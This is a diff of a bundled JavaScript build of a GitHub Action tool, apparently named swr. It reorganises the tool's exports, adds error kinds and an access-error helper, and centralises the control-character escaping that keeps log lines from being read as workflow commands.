@@ -28,7 +28,7 @@ __webpack_require__.r(__webpack_exports__);
 /* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_1__);
 /* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(8161);
 /* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_os__WEBPACK_IMPORTED_MODULE_2__);
-/* harmony import */ var _core_index_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(2002);
+/* harmony import */ var _core_index_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(483);
 /**
  * The only way the Action writes to its log. The runner reads every stdout line as a possible
  * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
@@ -46,7 +46,7 @@ __webpack_require__.r(__webpack_exports__);
 const LINE_MAX = 4096;
 /** One log line: escaped, bounded, and never read by the runner as a command. */
 function safeLine(text) {
-    const line = (0,_core_index_js__WEBPACK_IMPORTED_MODULE_3__/* .escapeText */ .X1C)(text, { max: LINE_MAX });
+    const line = (0,_core_index_js__WEBPACK_IMPORTED_MODULE_3__/* .escapeText */ .X1)(text, { max: LINE_MAX });
     // The runner trims leading whitespace before looking for `::`.
     return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
 }
@@ -148,81 +148,233 @@ function flushed() {
 
 /***/ }),
 
-/***/ 2002:
+/***/ 483:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
 // EXPORTS
 __webpack_require__.d(__webpack_exports__, {
-  bo1: () => (/* reexport */ CANARY_OUTPUT_BYTES),
-  jBG: () => (/* reexport */ paths_ENTRY_ID),
-  dcK: () => (/* reexport */ errors_EXIT),
-  o2w: () => (/* reexport */ GITHUB_ANNOTATIONS_PER_LEVEL),
-  XEW: () => (/* reexport */ ID_LIST_OUTPUT_BYTES),
-  FA: () => (/* reexport */ REPORT_OUTPUT_BYTES),
-  oj1: () => (/* reexport */ STATS_OUTPUT_BYTES),
-  BpC: () => (/* reexport */ errors_SwrError),
-  ebp: () => (/* reexport */ errors_UsageError),
-  gXJ: () => (/* reexport */ annotationsFor),
-  b8r: () => (/* reexport */ appendHistory),
-  Npp: () => (/* reexport */ bySeverity),
-  z6Y: () => (/* reexport */ check),
-  EQD: () => (/* reexport */ checkRecord),
-  bVJ: () => (/* reexport */ computeStats),
-  LDH: () => (/* reexport */ gate_decide),
-  wO_: () => (/* reexport */ errors_diskError),
-  rhu: () => (/* reexport */ state_dir_ensurePrivateDir),
-  FVb: () => (/* reexport */ escapeMarkdown),
-  X1C: () => (/* reexport */ escape_escapeText),
-  hqi: () => (/* reexport */ findingLines),
-  yNA: () => (/* reexport */ gate_gateInput),
-  eYj: () => (/* reexport */ loadManifest),
-  OS$: () => (/* reexport */ secret_scan_loadSecretScan),
-  STi: () => (/* reexport */ leftovers_makeOwnedTemp),
-  D51: () => (/* reexport */ makePolicy),
-  XOH: () => (/* reexport */ makeScrubber),
-  bTE: () => (/* reexport */ nativeWalkAllowed),
-  sGC: () => (/* reexport */ outcomeOf),
-  SgT: () => (/* reexport */ outcomeOfError),
-  Pvz: () => (/* reexport */ outputSize),
-  e1j: () => (/* reexport */ parseHmacKey),
-  gwA: () => (/* reexport */ plantCanaries),
-  $V4: () => (/* reexport */ readCanaries),
-  Lu2: () => (/* reexport */ readHistory),
-  SCL: () => (/* reexport */ readLedger),
-  IvB: () => (/* reexport */ renderCanaryMarkdown),
-  yfU: () => (/* reexport */ renderCanaryText),
-  Gcb: () => (/* reexport */ renderMarkdown),
-  EGR: () => (/* reexport */ renderPlan),
-  t_j: () => (/* reexport */ renderStatsMarkdown),
-  zcf: () => (/* reexport */ renderStep),
-  Dbj: () => (/* reexport */ repairManifest),
-  AiD: () => (/* reexport */ paths_resolveEntryPath),
-  vRm: () => (/* reexport */ types_restoreSources),
-  qVt: () => (/* reexport */ reverifier),
-  pON: () => (/* reexport */ runContext),
-  Y3B: () => (/* reexport */ scratchCopy),
-  wEI: () => (/* reexport */ scrubDeep),
-  oYl: () => (/* reexport */ secretPieces),
-  KCP: () => (/* reexport */ showAnchored),
-  bPF: () => (/* reexport */ stateKey),
-  BlD: () => (/* reexport */ thresholdProblem),
-  zvk: () => (/* reexport */ toSarif),
-  f4N: () => (/* reexport */ trackedPaths),
-  Zf6: () => (/* reexport */ atomic_writeFileAtomic)
+  dc: () => (/* reexport */ errors_EXIT),
+  eb: () => (/* reexport */ errors_UsageError),
+  gX: () => (/* reexport */ annotationsFor),
+  Np: () => (/* reexport */ bySeverity),
+  jZ: () => (/* reexport */ face_canary_namespaceObject),
+  l8: () => (/* reexport */ canaryAnchors),
+  Fg: () => (/* reexport */ face_capture_namespaceObject),
+  z6: () => (/* reexport */ check),
+  fe: () => (/* reexport */ classifyError),
+  FV: () => (/* reexport */ escapeMarkdown),
+  X1: () => (/* reexport */ escape_escapeText),
+  hq: () => (/* reexport */ findingLines),
+  $Y: () => (/* reexport */ index_file_namespaceObject),
+  b6: () => (/* reexport */ face_history_namespaceObject),
+  Fy: () => (/* reexport */ limits_namespaceObject),
+  eY: () => (/* reexport */ load_loadManifest),
+  LN: () => (/* reexport */ manifests_namespaceObject),
+  sG: () => (/* reexport */ outcomeOf),
+  wk: () => (/* reexport */ plantCanary),
+  ad: () => (/* reexport */ readCanaryIfPlanted),
+  My: () => (/* reexport */ recordSurvival),
+  Iv: () => (/* reexport */ renderCanaryMarkdown),
+  yf: () => (/* reexport */ renderCanaryText),
+  Gc: () => (/* reexport */ renderMarkdown),
+  EG: () => (/* reexport */ renderPlan),
+  t_: () => (/* reexport */ renderStatsMarkdown),
+  zc: () => (/* reexport */ renderStep),
+  Db: () => (/* reexport */ repairManifest),
+  sK: () => (/* reexport */ restoreCanaryState),
+  vR: () => (/* reexport */ types_restoreSources),
+  km: () => (/* reexport */ savedLine),
+  _I: () => (/* reexport */ face_scrub_namespaceObject),
+  _S: () => (/* reexport */ face_sign_namespaceObject),
+  dZ: () => (/* reexport */ state_namespaceObject),
+  oC: () => (/* reexport */ survivalStats),
+  zv: () => (/* reexport */ toSarif),
+  fG: () => (/* reexport */ verifySignatures),
+  GG: () => (/* reexport */ face_walk_namespaceObject),
+  xS: () => (/* reexport */ writeBackHandedOver)
 });
 
-// UNUSED EXPORTS: ALL_SUITE_DEFENSES, BLOB_THRESHOLD, DEFAULT_MIN_MODEL_BYTES, DEFENCE_PROBES, ESCROW_MAX_BYTES, HMAC_KEY_FILE, IDENTITY_FILE, InternalError, KINDS, MANIFEST_DIR, MANIFEST_NAME, MAX_BUNDLE_BYTES, ManifestError, NATIVE_WALK_VAR, PRESETS, REPORT_SCHEMA, RUN_STATUSES, STATUSES, SYNC_KEY_FILE, SymlinkRefusal, TIERS, TIER_NAMES, VARIABLE_NAME, VOLATILE_DIRS, WIPE_SIGNATURES, abbreviate, addCommand, addPeer, addTrusted, adviceFor, alreadyExists, applyEdit, applyRetighten, auditWorkspace, authorizeEdit, boundsProblem, buildReport, buildScenario, captureEntries, captureEntry, captureEscrow, captureModel, checkManifest, checkName, cleanLedger, cosignDocument, createKeyFiles, defaultStateDir, deriveId, describeResult, diagnose, diffEntry, errnoCode, escrowHint, evaluateSignatures, expand, findModels, findPeer, groupFingerprint, hasSigningKey, hasTokenShape, historyAdvice, identityFromSeed, indexPath, isSecretPath, keyPath, lacksRecipe, ledgerPath, linkStaysInside, loadHmacKey, loadIdentitySeed, loadPeers, loadSyncSeed, locateManifest, lockWorkspace, lookupSavedStates, makeCode, makeLineScrubber, manifestDigest, manifestPathInWorkspace, minimalEnv, newDocument, newKey, normalizeFingerprint, openStore, ownPaths, packPlain, packSealed, parseCode, parseExpiry, parseLegacyPublicKey, parseManifestText, parseScope, parseStrictJson, pathProblem, pickSentinels, pinMatches, planAutopilot, planPreset, planRepair, planRetighten, planSteps, presetNamed, readTrustStore, recall, recaptureEntry, recentLosses, recipeHint, recipesOf, recipientId, recordReplicas, redact, relativeInside, remember, removeLedger, removePeer, removeTrusted, renderCheck, renderCollateral, renderStatsText, renderWhy, repairOutcome, replicasOf, reportOf, resolveNoFollow, resolveWorkspace, runRecipe, runSmokes, runSuite, saveManifest, secretKeyFile, selectEntries, serializeDocument, sha256Hex, shellQuote, signDocument, signaturesHold, spellWorkspace, storeError, storeOfLocator, syncKeyPrefix, syncPublicKey, toManifestPath, treesToRetighten, underVolatileDir, unpackBundle, verifyLegacyHmac, verifyLegacyMldsa, verifySelection, wipeSignature
+// UNUSED EXPORTS: CONTROL_CLASS, KINDS, SwrError, TIERS, archive, author, checkManifest, classifyBug, cleanCanary, cosignManifest, createManifest, editManifest, errnoCode, exportRecipes, locateManifest, ownPaths, pull, push, pushKeyTail, readCanary, renderCheck, renderCollateral, renderStatsText, renderWhy, selectEntries, selftest, shellQuote, signManifest, signerWords, stateWords, sync, syncStatus, writeBack
+
+// NAMESPACE OBJECT: ./src/core/report/limits.ts
+var limits_namespaceObject = {};
+__webpack_require__.r(limits_namespaceObject);
+__webpack_require__.d(limits_namespaceObject, {
+  ANNOTATION_MESSAGE_CHARS: () => (ANNOTATION_MESSAGE_CHARS),
+  CANARY_OUTPUT_BYTES: () => (CANARY_OUTPUT_BYTES),
+  GITHUB_ANNOTATIONS_PER_LEVEL: () => (GITHUB_ANNOTATIONS_PER_LEVEL),
+  GITHUB_SARIF_RESULTS_SHOWN: () => (GITHUB_SARIF_RESULTS_SHOWN),
+  GITHUB_SUMMARY_BYTES: () => (GITHUB_SUMMARY_BYTES),
+  ID_LIST_OUTPUT_BYTES: () => (ID_LIST_OUTPUT_BYTES),
+  NOTICE_IDS: () => (NOTICE_IDS),
+  REPORT_OUTPUT_BYTES: () => (REPORT_OUTPUT_BYTES),
+  SARIF_RESULTS: () => (SARIF_RESULTS),
+  STATS_OUTPUT_BYTES: () => (STATS_OUTPUT_BYTES),
+  SUMMARY_BUDGET: () => (SUMMARY_BUDGET),
+  SURVIVAL_TABLE_ROWS: () => (SURVIVAL_TABLE_ROWS),
+  outputSize: () => (outputSize)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/canary.ts
+var face_canary_namespaceObject = {};
+__webpack_require__.r(face_canary_namespaceObject);
+__webpack_require__.d(face_canary_namespaceObject, {
+  abbreviate: () => (abbreviate),
+  cleanLedger: () => (clean_cleanLedger),
+  ledgerPath: () => (ledgerPath),
+  plantCanaries: () => (plantCanaries),
+  readCanaries: () => (readCanaries),
+  readLedger: () => (ledger_readLedger),
+  removeLedger: () => (ledger_removeLedger),
+  showAnchored: () => (showAnchored)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/capture.ts
+var face_capture_namespaceObject = {};
+__webpack_require__.r(face_capture_namespaceObject);
+__webpack_require__.d(face_capture_namespaceObject, {
+  BLOB_THRESHOLD: () => (capture_BLOB_THRESHOLD),
+  ESCROW_MAX_BYTES: () => (escrow_ESCROW_MAX_BYTES),
+  VOLATILE_DIRS: () => (volatile_dirs_VOLATILE_DIRS),
+  adviceFor: () => (adviceFor),
+  captureEntries: () => (captureEntries),
+  captureEntry: () => (capture_captureEntry),
+  captureEscrow: () => (captureEscrow),
+  deriveId: () => (deriveId),
+  diagnose: () => (diagnose),
+  isSecretPath: () => (secrets_isSecretPath),
+  loadSecretScan: () => (secret_scan_loadSecretScan),
+  pickSentinels: () => (pickSentinels),
+  recaptureEntry: () => (recaptureEntry),
+  underVolatileDir: () => (underVolatileDir),
+  wipeSignature: () => (wipeSignature)
+});
+
+// NAMESPACE OBJECT: ./src/core/git/index-file.ts
+var index_file_namespaceObject = {};
+__webpack_require__.r(index_file_namespaceObject);
+__webpack_require__.d(index_file_namespaceObject, {
+  MAX_INDEX_BYTES: () => (index_file_MAX_INDEX_BYTES),
+  parseIndex: () => (parseIndex),
+  trackedPaths: () => (trackedPaths),
+  workTreeTop: () => (workTreeTop)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/history.ts
+var face_history_namespaceObject = {};
+__webpack_require__.r(face_history_namespaceObject);
+__webpack_require__.d(face_history_namespaceObject, {
+  appendHistory: () => (appendHistory),
+  checkRecord: () => (checkRecord),
+  computeStats: () => (computeStats),
+  historyAdvice: () => (historyAdvice),
+  readHistory: () => (readHistory),
+  recentLosses: () => (recentLosses),
+  runContext: () => (runContext)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/manifests.ts
+var manifests_namespaceObject = {};
+__webpack_require__.r(manifests_namespaceObject);
+__webpack_require__.d(manifests_namespaceObject, {
+  jB: () => (ENTRY_ID)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/scrub.ts
+var face_scrub_namespaceObject = {};
+__webpack_require__.r(face_scrub_namespaceObject);
+__webpack_require__.d(face_scrub_namespaceObject, {
+  describeResult: () => (recipe_describeResult),
+  hasTokenShape: () => (scrub_hasTokenShape),
+  makeLineScrubber: () => (makeLineScrubber),
+  makeScrubber: () => (makeScrubber),
+  minimalEnv: () => (minimalEnv),
+  runRecipe: () => (runRecipe),
+  scrubDeep: () => (scrubDeep),
+  secretPieces: () => (secretPieces)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/sign.ts
+var face_sign_namespaceObject = {};
+__webpack_require__.r(face_sign_namespaceObject);
+__webpack_require__.d(face_sign_namespaceObject, {
+  ALL_SUITE_DEFENSES: () => (ALL_SUITE_DEFENSES),
+  DEFENCE_PROBES: () => (DEFENCE_PROBES),
+  HMAC_KEY_FILE: () => (HMAC_KEY_FILE),
+  IDENTITY_FILE: () => (IDENTITY_FILE),
+  SYNC_KEY_FILE: () => (SYNC_KEY_FILE),
+  addTrusted: () => (addTrusted),
+  alreadyExists: () => (alreadyExists),
+  authorizeEdit: () => (edit_rules_authorizeEdit),
+  buildScenario: () => (buildScenario),
+  cosignDocument: () => (sign_cosignDocument),
+  createKeyFiles: () => (createKeyFiles),
+  decide: () => (gate_decide),
+  evaluateSignatures: () => (gate_evaluateSignatures),
+  gateInput: () => (gate_gateInput),
+  groupFingerprint: () => (mldsa_groupFingerprint),
+  hasSigningKey: () => (sign_hasSigningKey),
+  identityFromSeed: () => (mldsa_identityFromSeed),
+  keyPath: () => (keyPath),
+  loadHmacKey: () => (keys_loadHmacKey),
+  loadIdentitySeed: () => (keys_loadIdentitySeed),
+  loadSyncSeed: () => (keys_loadSyncSeed),
+  makePolicy: () => (makePolicy),
+  manifestPathInWorkspace: () => (manifestPathInWorkspace),
+  newKey: () => (newKey),
+  normalizeFingerprint: () => (normalizeFingerprint),
+  parseExpiry: () => (parseExpiry),
+  parseHmacKey: () => (parseHmacKey),
+  parseScope: () => (parseScope),
+  readTrustStore: () => (readTrustStore),
+  recall: () => (version_memory_recall),
+  remember: () => (version_memory_remember),
+  removeTrusted: () => (removeTrusted),
+  runSuite: () => (runSuite),
+  secretKeyFile: () => (secretKeyFile),
+  signDocument: () => (sign_signDocument),
+  signaturesHold: () => (gate_signaturesHold),
+  thresholdProblem: () => (thresholdProblem)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/state.ts
+var state_namespaceObject = {};
+__webpack_require__.r(state_namespaceObject);
+__webpack_require__.d(state_namespaceObject, {
+  SymlinkRefusal: () => (no_follow_SymlinkRefusal),
+  defaultStateDir: () => (defaultStateDir),
+  ensurePrivateDir: () => (state_dir_ensurePrivateDir),
+  linkStaysInside: () => (no_follow_linkStaysInside),
+  lockWorkspace: () => (lockWorkspace),
+  makeOwnedTemp: () => (leftovers_makeOwnedTemp),
+  relativeInside: () => (no_follow_relativeInside),
+  resolveNoFollow: () => (no_follow_resolveNoFollow),
+  withLock: () => (lock_withLock),
+  writeFileAtomic: () => (atomic_writeFileAtomic)
+});
+
+// NAMESPACE OBJECT: ./src/core/face/walk.ts
+var face_walk_namespaceObject = {};
+__webpack_require__.r(face_walk_namespaceObject);
+__webpack_require__.d(face_walk_namespaceObject, {
+  NATIVE_WALK_VAR: () => (NATIVE_WALK_VAR),
+  indexPath: () => (tree_index_indexPath),
+  nativeWalkAllowed: () => (nativeWalkAllowed)
+});
 
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __webpack_require__(7598);
 var external_node_crypto_default = /*#__PURE__*/__webpack_require__.n(external_node_crypto_);
 // EXTERNAL MODULE: ./node_modules/canonicalize/lib/canonicalize.js
 var canonicalize = __webpack_require__(8799);
+// EXTERNAL MODULE: external "node:util"
+var external_node_util_ = __webpack_require__(7975);
 ;// CONCATENATED MODULE: ./src/core/errors.ts
 /**
  * Exit codes and the few error classes that carry them. Only the shells turn an error into an exit.
  */
+
 const errors_EXIT = {
     HEALTHY: 0,
     DAMAGED: 1,
@@ -237,20 +389,60 @@ const errors_EXIT = {
     CONFLICT: 75,
     INTERRUPTED: 130
 };
+/**
+ * What kind of error an SwrError is, for a shell that must decide by more than the exit code:
+ * `BAD_MANIFEST` (the manifest cannot be read or is malformed) and `USAGE` (a flag or input) are
+ * the two kinds of `INVALID`; `ACCESS` is a file the user can reach or fix (permissions, a vanished
+ * path); `WRITE_FAILED` a disk error or a write that could not finish; `CONFLICT` another writer;
+ * `REFUSED` swr declining to go on (a signature, a key, a store); `INTERRUPTED` a signal.
+ *
+ * The field is `kind`, not `code`: much of swr reads `err.code` of any caught error as Node's
+ * errno (`ENOENT`, `ENOSPC`) and prints it, and an SwrError must not pass for one.
+ */
+const SWR_ERROR_KINDS = (/* unused pure expression or super */ null && ([
+    'BAD_MANIFEST',
+    'USAGE',
+    'INVALID',
+    'ACCESS',
+    'REFUSED',
+    'WRITE_FAILED',
+    'CONFLICT',
+    'INTERRUPTED',
+    'FAILED'
+]));
+/** The kind an exit code stands for, when the thrower names none. */
+function kindOfExit(exitCode) {
+    switch (exitCode) {
+        case errors_EXIT.BAD_MANIFEST:
+            return 'INVALID';
+        case errors_EXIT.UNREPAIRABLE:
+            return 'REFUSED';
+        case errors_EXIT.WRITE_FAILED:
+            return 'WRITE_FAILED';
+        case errors_EXIT.CONFLICT:
+            return 'CONFLICT';
+        case errors_EXIT.INTERRUPTED:
+            return 'INTERRUPTED';
+        default:
+            return 'FAILED';
+    }
+}
 /** An error meant for the user: one line, a subject, and the exit status it maps to. */
 class errors_SwrError extends Error {
     exitCode;
-    constructor(message, exitCode) {
+    kind;
+    constructor(message, exitCode, kind) {
         super(message);
         this.exitCode = exitCode;
         this.name = 'SwrError';
+        this.kind = kind ?? kindOfExit(exitCode);
     }
 }
 /** The manifest is unreadable, malformed or inconsistent. `where` names the file, line or field. */
 class errors_ManifestError extends errors_SwrError {
     problems;
     constructor(message, problems = [message]) {
-        super(message, errors_EXIT.BAD_MANIFEST);
+        super(message, errors_EXIT.BAD_MANIFEST, 'BAD_MANIFEST');
         this.problems = problems;
         this.name = 'ManifestError';
     }
@@ -258,7 +450,7 @@ class errors_ManifestError extends errors_SwrError {
 /** The command line asked for something that cannot be done. */
 class errors_UsageError extends errors_SwrError {
     constructor(message) {
-        super(message, errors_EXIT.BAD_MANIFEST);
+        super(message, errors_EXIT.BAD_MANIFEST, 'USAGE');
         this.name = 'UsageError';
     }
 }
@@ -279,13 +471,25 @@ const DISK_WORDS = {
     EFBIG: 'file too large'
 };
 /** The error as a one-line SwrError when it is a disk error, else undefined. */
-function errors_diskError(err, file) {
+function diskError(err, file) {
     const code = errors_errnoCode(err);
     if (!code || !DISK_CODES.has(code))
         return undefined;
     const p = err.path;
     const what = file ?? (typeof p === 'string' ? p : 'to the disk');
-    return new errors_SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, errors_EXIT.WRITE_FAILED);
+    return new errors_SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, errors_EXIT.WRITE_FAILED, 'WRITE_FAILED');
+}
+/**
+ * The error as a one-line SwrError when it is a file system error with a path (permissions, a
+ * vanished file: something the user can fix), else undefined. Disk errors are diskError's.
+ */
+function accessError(err) {
+    const code = errors_errnoCode(err);
+    // isNativeError: an error made in another realm (a vm context) is no `instanceof Error` here.
+    if (!code || !(err instanceof Error || external_node_util_.types.isNativeError(err)) || !('path' in err))
+        return undefined;
+    const e = err;
+    return new errors_SwrError(`${e.syscall ?? 'access'} ${e.path}: ${code}`, errors_EXIT.BAD_MANIFEST, 'ACCESS');
 }
 /** Node's fs errors carry a code; this reads it without `any`. */
 function errors_errnoCode(err) {
@@ -305,7 +509,7 @@ function errors_errnoCode(err) {
 
 
 /** RFC 8785 bytes of `value`. */
-function canonical_canonicalBytes(value) {
+function canonicalBytes(value) {
     const text = (0,canonicalize/* default */.A)(value);
     if (text === undefined)
         throw new InternalError('value has no canonical JSON form');
@@ -313,13 +517,46 @@ function canonical_canonicalBytes(value) {
 }
 /** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
 function canonical_manifestDigest(body) {
-    return (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(body)).digest('hex');
+    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
 }
 
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __webpack_require__(6760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
-;// CONCATENATED MODULE: ./src/core/report/escape.ts
+;// CONCATENATED MODULE: ./src/core/text/controls.mjs
+// The one definition of the characters no line of output may carry raw: C0 controls, DEL, C1
+// controls and the bidi controls. Raw, a newline starts a line of the writer's choosing (a
+// workflow command in the Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the
+// screen, and a bidi control shows text in another order than it is stored. Plain JavaScript
+// because the walk's worker threads (walk/byte-names.mjs) import it as well as the TypeScript
+// printers; `npm run bundle` copies it beside each bundle with the workers' other files.
+
+/** Bidi controls: ALM, LRM, RLM, LRE..RLO, LRI..PDI. */
+const BIDI_CONTROLS = Object.freeze([
+  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
+])
+
+const BIDI = new Set(BIDI_CONTROLS)
+
+/**
+ * True for C0, DEL, C1 and bidi controls (a UTF-16 code unit).
+ * @param {number} code
+ * @returns {boolean}
+ */
+function controls_isControl(code) {
+  return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code)
+}
+
+/** @param {number} c */
+const u = c => `\\u${c.toString(16).padStart(4, '0')}`
+
+/** The controls above C0 (DEL, C1, bidi), as the inside of a RegExp character class. */
+const NON_C0_CLASS = `${u(0x7f)}-${u(0x9f)}${BIDI_CONTROLS.map(u).join('')}`
+
+/** Every control isControl names, as the inside of a RegExp character class. */
+const CONTROL_CLASS = `${u(0)}-${u(0x1f)}${NON_C0_CLASS}`
+
+;// CONCATENATED MODULE: ./src/core/text/escape.ts
 /**
  * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
  * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
@@ -327,17 +564,11 @@ var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_nod
  * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
  * reorder what the reader sees. Every printer passes such strings through `escapeText`.
  */
-/** Bidi controls: they make text display in another order than it is stored. */
-const BIDI = new Set([
-    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
-]);
+
+
 const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
 /** The default bound for a manifest string quoted in an error line. */
 const QUOTE_MAX = 200;
-/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
-function escape_isControl(code) {
-    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
-}
 /**
  * Whether JSON text could decode to a string holding a control character: it holds one raw (C0
  * ones cannot stand raw in a JSON string), or an escape that could spell one (any `\u`, or a
@@ -346,16 +577,17 @@ function escape_isControl(code) {
 function jsonMayHoldControl(text) {
     return MAY_HOLD_CONTROL.test(text);
 }
-const MAY_HOLD_CONTROL = new RegExp(`\\\\[bfnrtu]|[\\u007f-\\u009f${[...BIDI].map(c => `\\u${hex(c, 4)}`).join('')}]`);
+const MAY_HOLD_CONTROL = new RegExp(`\\\\[bfnrtu]|[${NON_C0_CLASS}]`);
 function hex(code, width) {
     return code.toString(16).padStart(width, '0');
 }
 function visible(code) {
     if (NAMED[code])
         return NAMED[code];
-    if (code <= 0xff && escape_isControl(code))
+    if (code <= 0xff && controls_isControl(code))
         return `\\x${hex(code, 2)}`;
-    if (BIDI.has(code))
+    // Above 0xff only the bidi controls are controls.
+    if (controls_isControl(code))
         return `\\u${hex(code, 4)}`;
     return undefined;
 }
@@ -428,7 +660,7 @@ function markdownCode(s, opts = {}) {
  */
 
 
-const paths_ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
+const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
 const MAX_PATH = 4096;
 /** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
 function paths_pathProblem(p) {
@@ -482,19 +714,12 @@ function controlProblem(p) {
     }
     return undefined;
 }
-/** True when `abs` is `root` or below it (both already absolute and normalised). */
-function paths_isInside(root, abs) {
-    if (abs === root)
-        return true;
-    const base = root.endsWith('/') ? root : `${root}/`;
-    return abs.startsWith(base);
-}
 /** Absolute location of a validated manifest path. */
-function paths_resolveEntryPath(workspace, rel) {
+function resolveEntryPath(workspace, rel) {
     return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
 }
 /** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
-function paths_innerPathProblem(p) {
+function innerPathProblem(p) {
     if (p === '.')
         return 'names the tree itself';
     return paths_pathProblem(p);
@@ -516,7 +741,7 @@ function paths_innerPathProblem(p) {
  * expectations. Another state of the entry (or another manifest's entry) has another key.
  */
 function stateKey(e) {
-    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex');
+    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
     return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
 }
 /** Which entries have a cache saved for exactly their expected state (no download). */
@@ -527,7 +752,7 @@ async function lookupSavedStates(m, entries, cache) {
         out.push({
             id: e.id,
             key,
-            available: await cache.lookup(paths_resolveEntryPath(m.workspace, e.path), key)
+            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
         });
     }
     return out;
@@ -552,8 +777,8 @@ function pae(type, payload) {
     return Buffer.concat([head, payload]);
 }
 /** The exact bytes every manifest signature covers. */
-function envelope_signingInput(body, type = PAYLOAD_TYPE) {
-    return pae(type, canonical_canonicalBytes(body));
+function signingInput(body, type = PAYLOAD_TYPE) {
+    return pae(type, canonicalBytes(body));
 }
 
 ;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
@@ -568,11 +793,11 @@ function envelope_signingInput(body, type = PAYLOAD_TYPE) {
 function hmacKeyId(key) {
     return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
 }
-function hmac_signHmac(key, input) {
+function signHmac(key, input) {
     return {
         alg: 'hmac-sha256',
         keyid: hmacKeyId(key),
-        sig: createHmac('sha256', key).update(input).digest('hex')
+        sig: (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest('hex')
     };
 }
 function verifyHmac(key, input, sig) {
@@ -613,10 +838,10 @@ function fingerprint(publicKey) {
     return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
 }
 /** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
-function groupFingerprint(fp) {
+function mldsa_groupFingerprint(fp) {
     return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
 }
-function mldsa_normalizeFingerprint(text) {
+function normalizeFingerprint(text) {
     const t = text.replace(/[\s:-]/g, '').toLowerCase();
     return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
 }
@@ -624,7 +849,7 @@ async function mldsa_identityFromSeed(seed) {
     const { publicKey, secretKey } = (await mldsa()).keygen(seed);
     return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
 }
-async function mldsa_signMldsa(id, input) {
+async function signMldsa(id, input) {
     const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
     return {
         alg: 'ml-dsa-87',
@@ -670,7 +895,7 @@ async function verifyMldsa(publicKey, input, sig) {
 
 
 const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
-const gate_ALL_DEFENSES = Object.freeze({
+const ALL_DEFENSES = Object.freeze({
     signatures: true,
     trust: true,
     fingerprintFromKey: true,
@@ -684,8 +909,8 @@ function gate_gateInput(m) {
     return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
 }
 /** Each signature's state under `policy` (no decision). */
-async function evaluateSignatures(m, policy, defenses = gate_ALL_DEFENSES) {
-    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonical_canonicalBytes(m.body);
+async function gate_evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
+    const raw = defenses.payloadType ? signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
     const out = [];
     for (const s of m.signatures) {
         if (s.alg === 'hmac-sha256') {
@@ -722,7 +947,7 @@ function hmacState(s, raw, key, defenses) {
     return !defenses.signatures || verifyHmac(key, raw, s) ? 'valid' : 'invalid';
 }
 /** May this manifest's code run? */
-async function gate_decide(m, policy, defenses = gate_ALL_DEFENSES) {
+async function gate_decide(m, policy, defenses = ALL_DEFENSES) {
     const refuse = (reason, signatures = []) => ({
         allowed: false,
         reason,
